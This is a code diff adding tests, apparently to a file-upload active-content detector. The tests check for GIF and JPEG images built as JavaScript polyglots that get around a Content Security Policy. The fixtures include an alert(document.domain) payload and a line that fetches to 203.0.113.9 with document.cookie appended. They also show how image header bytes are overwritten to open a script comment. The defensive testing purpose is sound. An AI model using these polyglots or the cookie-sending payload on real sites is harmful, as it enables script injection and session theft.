@@ -517,6 +517,38 @@ describe('active-content: PDF', () => {
   });
 });
 
+describe('active-content: an image that is also a script (CSP bypass)', () => {
+  const opened = (image: Buffer, at: number) => {
+    const bytes = Buffer.from(image);
+    bytes.write('/*', at, 'latin1');
+    return bytes;
+  };
+  it.each([
+    [
+      'a GIF whose width opens a comment that closes into a statement',
+      'avatar.gif',
+      Buffer.concat([opened(gif(), 6), Buffer.from('*/=alert(document.domain);//')]),
+      ['html'],
+    ],
+    [
+      'a JPEG whose first segment length opens the comment',
+      'avatar.jpg',
+      Buffer.concat([opened(jpeg(), 4), Buffer.from('*/;fetch(`//203.0.113.9/`+document.cookie)//')]),
+      ['html'],
+    ],
+    // look-alikes: an ordinary GIF ending in the same bytes; the header open, nothing after the comment
+    ['an ordinary GIF with the bytes later', 'a.gif', Buffer.concat([gif(), Buffer.from('*/=alert(1)')]), []],
+    [
+      'a GIF opening a comment, no statement',
+      'b.gif',
+      Buffer.concat([opened(gif(), 6), Buffer.from('*/ 1')]),
+      [],
+    ],
+  ])('%s', async (_label, name, bytes, expected) => {
+    expect(await active(name, bytes)).toEqual(expected);
+  });
+});
+
 describe('active-content: Office macros', () => {
   const docx = (extra: Record<string, string> = {}) =>
     zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...extra });
